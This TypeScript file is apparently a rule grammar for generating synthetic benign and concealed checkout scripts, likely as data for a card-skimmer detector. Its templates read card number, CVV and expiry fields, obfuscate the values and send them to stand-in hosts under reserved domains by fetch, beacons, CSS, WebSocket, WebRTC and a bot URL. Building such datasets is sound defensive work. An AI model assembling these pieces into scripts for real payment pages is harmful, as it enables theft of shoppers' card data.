import { concealed } from '../conceal.ts';
import type { Random } from '../random.ts';
import { cardFields, cvvFields, expiryFields, host, key, path, personFields, quote } from '../words.ts';
import type { Rules } from './expand.ts';

const adjectives = 'blue,quick,north,clear,open,bright,stone,silver,river,urban,prime,daily,next,true'.split(',');
const things = 'leaf,harbor,metric,cart,pixel,font,tag,pay,layer,crate,field,track,signal,lane,forge'.split(',');
const reserved = ['example', 'invalid', 'test'];

/** Both classes draw from the same looks, so that a host's look never tells. */
export function anyHost(r: Random): string {
  const tld = r.pick(reserved);
  const word = (): string => r.pick(adjectives) + r.pick(things);
  return r.pick([
    () => host(r),
    () => `${r.pick(['js', 'cdn', 'api', 'static', 'collect', 'm', 'secure', 'checkout'])}.${word()}.${tld}`,
    () => `${word()}-${r.pick(['cdn', 'js', 'analytics', 'static', 'api', 'pay'])}.${tld}`,
    () => `${r.pick(adjectives)}-${r.pick(things)}-${r.int(10, 9999)}.${word()}.workers.${tld}`,
    () => `${key(r, 12).toLowerCase()}.edgefront.${tld}`,
    () => `${word()}.pages.${tld}`,
    () => `${key(r, r.int(6, 9)).toLowerCase()}.${tld}`,
    () => `www.${word()}.co.${tld}`,
  ])();
}

const anyPath = (r: Random): string =>
  r.pick([
    () => path(r),
    () => `${r.pick(things)}/${key(r, 8)}`,
    () => `v${r.int(1, 3)}/${r.pick(['collect', 'events', 'e', 'tokens', 'submit', 'i', 'log', 'sync', 'submissions'])}`,
    () => `wp-content/plugins/${r.pick(things)}/${r.pick(things)}.php`,
    () => `${r.pick(['pixel', 'track', 'b', 'img', 'logo', 'api', 'ajax'])}${r.pick(['.php', '.gif', '.png', '', '/'])}`,
  ])();

export const anyUrl = (r: Random): string => `${r.pick(['https://', 'https://', '//'])}${anyHost(r)}/${anyPath(r)}`;

const selectorOf = (r: Random, name: string): string =>
  r.pick([`[name="${name}"]`, `#${name.replace(/\W+/g, '-')}`, `input[name*="${name.replace(/\W+.*$/, '')}"]`]);

/** What both classes are written with. Behaviour is put together in the designs, not here. */
export const sharedRules: Rules = {
  url: (r) => anyUrl(r),
  host: (r) => anyHost(r),
  path: (r) => anyPath(r),
  key: (r, length) => key(r, Number(length) || 16),
  int: (r, range) => {
    const [low = 1, high = 9] = range.split('-').map(Number);
    return String(r.int(low, high));
  },
  /** A string that more or less shows: `secret` hides often, `text` seldom; both occur in both classes. */
  secret: (r, text) => concealed(r, text, r.pick([1, 0.7, 0.3, 0])),
  text: (r, text) => concealed(r, text, r.chance(0.93) ? 1 : 0),
  card: (r) => selectorOf(r, r.pick(cardFields)),
  cvv: (r) => selectorOf(r, r.pick(cvvFields)),
  expiry: (r) => selectorOf(r, r.pick(expiryFields)),
  person: (r) => selectorOf(r, r.pick(personFields)),
  cardname: (r) => r.pick(cardFields),
  cvvname: (r) => r.pick(cvvFields),
  personname: (r) => r.pick(personFields),
  quotedfields: (r) => [...r.some(cardFields, 2), r.pick(cvvFields), r.pick(expiryFields), ...r.some(personFields, r.int(0, 4))].map(quote).join(','),
  class: (r) => `${r.pick(things)}-${r.pick(['box', 'wrap', 'form', 'item', 'modal', 'bar', 'panel'])}`,
  word: (r) => r.pick(things),
  store: ['‹localStorage¦sessionStorage¦window.localStorage›'],
  storekey: (r) => r.pick([`_${r.pick(things)}`, `${r.pick(things)}_${r.pick(['id', 'q', 'state', 'cache'])}`, `__${key(r, 4)}`, `${r.pick(adjectives)}:${r.pick(things)}`]),
  pay: ['‹#place_order¦#pay¦button.checkout¦.btn-place-order¦#payment-button¦[data-role=review-save]¦button[type=submit]¦#co-payment-form button›'],
  /** An address as an expression: in plain sight, or not. */
  frameurl: (r) => concealed(r, anyUrl(r), r.pick([1, 1, 0.3])),
  /** An address that nobody owns, of a kind other than hexadecimal. */
  wallet: (r) => r.pick([`bc1q${key(r, 38).toLowerCase()}`, `1${key(r, 33)}`, `3${key(r, 33)}`, `ltc1q${key(r, 38).toLowerCase()}`]),
  sdk: ['‹Stripe¦braintree¦Accept¦AdyenCheckout›'],
  payframe: [
    'iframe[‹name^=__privateStripe¦src*=‹stripe¦adyen¦braintree¦worldpay¦mollie›¦name^=braintree-hosted-field¦title*=card¦src*=hosted-fields›]',
  ],
  form: ['‹#checkout-form¦form.checkout¦#co-payment-form¦form[action*=checkout]¦#payment-form¦form›'],
  checkoutpath: ['‹checkout¦onepage¦payment¦order¦onestepcheckout¦kasse¦pay›'],
  oncheckout: [
    '/‹checkout¦onepage|checkout¦payment|order›/‹i¦›.test(‹location.href¦location.pathname¦window.location›)',
    "location.‹href¦pathname›.indexOf('«checkoutpath»')‹>-1¦!==-1¦>=0›",
    "location.pathname.includes('«checkoutpath»')",
    "document.querySelector('«form»')",
    "document.body.className.indexOf('«checkoutpath»')>=0",
  ],
  ready: [
    "document.addEventListener('DOMContentLoaded',function(){$$});",
    "window.addEventListener('load',function(){$$});",
    "if(document.readyState!=='loading'){(function(){$$})()}else{document.addEventListener('DOMContentLoaded',function(){$$})}",
    '$$',
    'setTimeout(function(){$$},«int:0-3000»);',
    'jQuery(function(){$$});',
  ],
  /** Sends the expression `$$` elsewhere, by ways that both classes use. */
  send: [
    "fetch('«url»',{method:'POST',‹mode:'no-cors',¦keepalive:true,¦›body:$$});",
    "fetch('«url»',{method:'POST',headers:{'Content-Type':'application/json'},body:$$})‹.catch(function(){})¦›;",
    "navigator.sendBeacon('«url»',$$);",
    "if(navigator.sendBeacon){navigator.sendBeacon('«url»',$$)}else{var @z=new XMLHttpRequest();@z.open('POST','«url»');@z.send($$)}",
    "var @z=new XMLHttpRequest();@z.open('POST','«url»',true);‹@z.setRequestHeader('Content-Type','‹application/json¦application/x-www-form-urlencoded¦text/plain›');¦›@z.send($$);",
    "jQuery.‹ajax({url:'«url»',type:'POST',data:{‹d¦data¦payload¦info›:$$}})¦post('«url»',{‹d¦data¦q›:$$})›;",
    "new Image().src='«url»?‹d¦q¦e¦data¦id›='+encodeURIComponent($$);",
    "var @y=new WebSocket('wss://«host»/‹ws¦live¦stream¦e›');@y.onopen=function(){@y.send($$)};",
    "axios.post('«url»',$$);",
  ],
  /** What workers can send by. */
  workersend: [
    "fetch(«frameurl»,{method:'POST',‹mode:'no-cors',¦›body:‹$$¦btoa(unescape(encodeURIComponent($$)))›})‹.catch(function(){})¦›;",
    "fetch('«url»?‹d¦q¦e›='+encodeURIComponent($$),{mode:'no-cors'});",
  ],
  /** Ways that only who hides sends by; honest code has its own uses of the same calls. */
  sneak: [
    '«send:$$»', '«send:$$»',
    "var @x=document.createElement('style');@x.textContent='body::after{content:url(«url»?‹c¦v¦f›='+encodeURIComponent($$)+')}';document.head.appendChild(@x);",
    "var @x=document.createElement('link');@x.rel='‹stylesheet¦prefetch¦preload¦icon›';@x.href='«url»?‹v¦ver¦t›='+btoa($$);document.head.appendChild(@x);",
    "document.body.style.‹backgroundImage¦background›='url(«url»?‹i¦v›='+encodeURIComponent($$)+')';",
    "var @x=document.createElement('script');@x.src='«url»?‹callback=x&d¦v¦s›='+encodeURIComponent($$);document.body.appendChild(@x);",
    "var @x=document.createElement('iframe');@x.style.display='none';@x.src='«url»?‹q¦id›='+encodeURIComponent($$);document.body.appendChild(@x);",
    "fetch('https://api.«word».example/bot«int:100000-999999»:«key:35»/sendMessage?chat_id=-«int:1000-999999»&text='+encodeURIComponent($$));",
    "fetch('https://«word»-«word».«word»«int:1-99».workers.‹example¦test›/',{method:'POST',body:$$});",
    "new EventSource('«url»?‹id¦s›='+encodeURIComponent($$));",
    "var @x=new RTCPeerConnection({iceServers:[{urls:'turn:«host»',username:btoa($$),credential:'‹x¦0¦p›'}]});@x.createDataChannel('');@x.createOffer().then(function(o){@x.setLocalDescription(o)});",
    "var @x=document.createElement('form');@x.method='POST';@x.action='«url»';@x.target='«word»';var @w=document.createElement('input');@w.name='‹d¦data›';@w.value=$$;@x.appendChild(@w);document.body.appendChild(@x);@x.submit();",
    "import('«url»?‹r¦d›='+encodeURIComponent($$));",
    "«sendto:$$»",
  ],
  sendto: (r, data) => {
    const to = concealed(r, anyUrl(r), r.pick([0.5, 0]));
    return r.pick([
      `fetch(${to},{method:'POST',body:${data}});`,
      `(new Image).src=${to}+'?'+${data};`,
      `navigator.sendBeacon(${to},${data});`,
      `var @z=new XMLHttpRequest;@z.open('POST',${to});@z.send(${data});`,
    ]);
  },
  /** An expression over text `$$`. */
  encoded: [
    '$$', 'btoa($$)', 'btoa($$)', 'encodeURIComponent($$)', 'btoa(encodeURIComponent($$))', 'btoa(btoa($$))', 'btoa(unescape(encodeURIComponent($$)))',
    "$$.split('').map(function(c){return String.fromCharCode(c.charCodeAt(0)^«int:1-60»)}).join('')", "$$.split('').reverse().join('')",
    "Array.from($$).map(function(c){return c.charCodeAt(0).toString(16).padStart(2,'0')}).join('')",
    "window.CryptoJS?CryptoJS.AES.encrypt($$,'«key:12»').toString():btoa($$)",
    "$$.replace(/\\d/g,function(d){return (+d+«int:1-9»)%10})",
  ],
  /** A function expression that gives what was typed into card fields, as text. */
  cardreader: [
    "function(){var @p={};document.querySelectorAll('‹input,select¦input¦form input, form select›').forEach(function(i){if(i.value)@p[i.name||i.id]=i.value});return JSON.stringify(@p)}",
    "function(){return JSON.stringify({‹n¦num¦number¦a›:(document.querySelector('«card»')||{}).value,‹c¦cvv¦b›:(document.querySelector('«cvv»')||{}).value,‹e¦exp¦d›:(document.querySelector('«expiry»')||{}).value})}",
    "function(){return [«quotedfields»].map(function(n){var e=document.getElementsByName(n)[0]||document.getElementById(n);return e?e.value:''}).join('‹|¦;¦~¦,›')}",
    "function(){return JSON.stringify(Object.fromEntries(new FormData(document.querySelector('«form»'))))}",
    "function(){return new URLSearchParams(new FormData(document.forms[«int:0-2»])).toString()}",
    "function(){return jQuery('«form»').serialize()}",
    "function(){var s='';for(var @q=document.getElementsByTagName('input'),j=0;j<@q.length;j++)if(/‹card|cc|cvv|cvc|exp¦number|code|month|year›/i.test(@q[j].name+@q[j].id))s+=@q[j].name+'='+@q[j].value+'&';return s}",
    "function(){return Array.prototype.filter.call(document.querySelectorAll('[autocomplete^=cc-],[name*=card],[id*=cvv]'),function(e){return e.value}).map(function(e){return e.‹id¦name¦autocomplete›+':'+e.value}).join()}",
  ],
  /** Something of a script that has nothing to do with its purpose. */
  filler: [
    'var @r=Date.now();', "if(!Array.prototype.includes){Array.prototype.includes=function(v){return this.indexOf(v)>-1}}", '',
    "var @r={version:'«int:1-9».«int:0-20».«int:0-9»',debug:‹false¦!1¦0›};", "function @s(a){return typeof a==='string'?a.trim():''}", '',
    "window.«word»=window.«word»||[];", "var @t=document.querySelector('meta[name=viewport]');", "function @u(f,t){var h;return function(){clearTimeout(h);h=setTimeout(f,t)}}",
  ],
};
